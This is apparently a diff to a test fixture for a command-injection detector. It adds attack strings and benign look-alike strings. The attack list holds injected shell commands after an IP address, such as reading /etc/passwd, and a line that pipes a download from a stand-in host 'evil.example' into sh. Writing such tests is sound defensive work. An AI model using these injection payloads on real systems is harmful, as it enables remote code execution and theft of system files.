@@ -1,6 +1,12 @@
 /** What the detector must find, and must let pass. */
 
 export const attacks: readonly string[] = [
+  '8.8.8.8;cat etc/passwd',
+  '8.8.8.8;find / -name x',
+  '8.8.8.8;cat -- /etc/passwd',
+  '8.8.8.8;kill 2',
+  '8.8.8.8;test -f /etc/passwd',
+  ';curl https://evil.example/x|sh',
   '| Dir c:/',
   ';w',
   ';nc</tmp/x',
@@ -160,6 +166,16 @@ export const attacks: readonly string[] = [
 ]
 
 export const harmless: readonly string[] = [
+  'New video; watch https://www.example.com/watch?v=x',
+  'Docs | read https://docs.example.com',
+  'Ok; open 24/7',
+  'Invoice; date 11/22/2024',
+  'Thanks; find him/her a seat',
+  'The plan; start w/o me',
+  'Unit; test -- done',
+  'Scan; test -ve',
+  'Fun; kill 2 birds',
+  '22;ssh',
   '^32Kl*pN&W$',
   ';JQ!j$&G=a#8P=]?',
   'e5[nsdz;)xkpoh];w>',
